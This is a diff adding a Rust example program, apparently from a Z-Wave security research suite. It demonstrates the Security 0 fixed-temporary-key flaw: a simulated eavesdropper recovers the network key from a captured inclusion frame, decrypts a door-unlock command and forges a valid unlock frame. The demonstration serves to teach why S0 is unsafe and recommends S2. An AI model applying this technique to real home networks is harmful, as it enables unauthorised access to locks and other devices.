@@ -1,0 +1,60 @@
+//! The classic S0 weakness (paper Section II-A1: "Security 0 ... is
+//! susceptible to MITM attacks due to a fixed temporary key during key
+//! exchange", after Fouladi & Ghanoun).
+//!
+//! ```text
+//! cargo run --release --example s0_downgrade
+//! ```
+//!
+//! An S0 inclusion protects the network-key transfer with a *protocol
+//! constant* (the all-zero temporary key). A passive eavesdropper captures
+//! the exchange, derives the same temporary keys from the public constant,
+//! recovers the permanent network key, and from then on reads every S0
+//! frame in the home — contrast with the S2 ceremony of
+//! `tests/inclusion_over_air.rs`, where the sniffer learns nothing.
+
+use zcover_suite::zwave_crypto::s0::{decapsulate, encapsulate, S0Keys};
+use zcover_suite::zwave_crypto::NetworkKey;
+
+fn main() {
+    // ── The household performs an S0 inclusion ─────────────────────────
+    let network_key = NetworkKey::from_seed(0xBEEF);
+    let temp = S0Keys::derive_temp(); // derived from the FIXED all-zero key
+
+    // Controller → joining device: NETWORK_KEY_SET under the temp key.
+    let mut key_set = vec![0x98, 0x06];
+    key_set.extend_from_slice(network_key.bytes());
+    let sender_nonce = [0x11u8; 8];
+    let receiver_nonce = [0x22u8; 8];
+    let on_air = encapsulate(&temp, 0x01, 0x04, &sender_nonce, &receiver_nonce, &key_set);
+    println!("inclusion frame on air: {} bytes, S0-encrypted under the temp key", on_air.len());
+
+    // ── The attacker, 70 m away, captured that frame ────────────────────
+    // The "temporary key" is a specification constant, so the attacker
+    // derives the very same working keys...
+    let attacker_temp = S0Keys::derive_temp();
+    let plaintext = decapsulate(&attacker_temp, 0x01, 0x04, &receiver_nonce, &on_air)
+        .expect("the fixed temp key decrypts the exchange");
+    assert_eq!(plaintext[..2], [0x98, 0x06]);
+    let mut stolen = [0u8; 16];
+    stolen.copy_from_slice(&plaintext[2..18]);
+    println!("attacker recovered the permanent network key from the key exchange");
+    assert_eq!(&stolen, network_key.bytes());
+
+    // ── Every subsequent S0 frame is an open book ───────────────────────
+    let household = S0Keys::derive(&network_key);
+    let attacker = S0Keys::derive(&NetworkKey::new(stolen));
+    let lock_cmd = [0x62, 0x01, 0x00]; // door unlock!
+    let sn = [0x33u8; 8];
+    let rn = [0x44u8; 8];
+    let traffic = encapsulate(&household, 0x01, 0x02, &sn, &rn, &lock_cmd);
+    let read_back = decapsulate(&attacker, 0x01, 0x02, &rn, &traffic).unwrap();
+    assert_eq!(read_back, lock_cmd);
+    println!("attacker decrypted live S0 traffic: {read_back:02X?} (door unlock)");
+
+    // And worse: with the key, the attacker can *forge* valid S0 frames.
+    let forged = encapsulate(&attacker, 0x01, 0x02, &[0x55u8; 8], &rn, &[0x62, 0x01, 0x00]);
+    assert!(decapsulate(&household, 0x01, 0x02, &rn, &forged).is_ok());
+    println!("attacker forged an authenticated S0 unlock command");
+    println!("\nconclusion: S0 inclusions must be treated as compromised; use S2 (see tests/inclusion_over_air.rs)");
+}
